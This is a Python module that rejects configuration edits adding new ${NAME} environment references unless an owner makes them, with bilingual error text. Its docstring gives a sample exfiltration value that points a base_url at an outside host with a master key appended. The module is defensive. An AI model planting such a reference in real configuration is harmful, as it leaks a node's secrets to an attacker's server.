"""Who may write ``${NAME}``: a reference lends a value of the node's environment to whatever stands around it.

Somebody who may edit the configuration, but has no business on the node's machine, could have any variable sent to a
server of his own: ``base_url: https://his.example/${MENSHEN_MASTER_KEY}``. So he keeps the references that are there,
where they are, and writes no other.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

from menshen.config.environment import has_reference
from menshen.config.wording import Loc, render_path
from menshen.documents.parts import Json, Way, item_name
from menshen.errors import Problem

__all__ = ["new_references"]

_WHY = (
    "only an owner may write a ${NAME} reference here: it lends a value of the node's environment",
    "只有所有者可以在此填写 ${NAME} 引用：它会取用节点环境变量的值",
)


def new_references(new: Json, old: Json, renamed: Mapping[Way, Way]) -> list[Problem]:
    """A problem for each text with a reference that was not in the same place, told by names, before."""
    before = {(way, text) for _, way, text in _references(old, (), (), {})}
    return [
        Problem(render_path(loc), *_WHY)
        for loc, way, text in _references(new, (), (), renamed)
        if (way, text) not in before
    ]


def _references(value: Any, loc: Loc, way: Way, renamed: Mapping[Way, Way]) -> Iterator[tuple[Loc, Way, str]]:
    if isinstance(value, str):
        if has_reference(value):
            yield loc, way, value
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield from _references(item, (*loc, key), (*way, key), renamed)
    elif isinstance(value, list | tuple):
        for index, item in enumerate(value):
            at = (*way, item_name(item) or "*")
            yield from _references(item, (*loc, index), renamed.get(at, at), renamed)
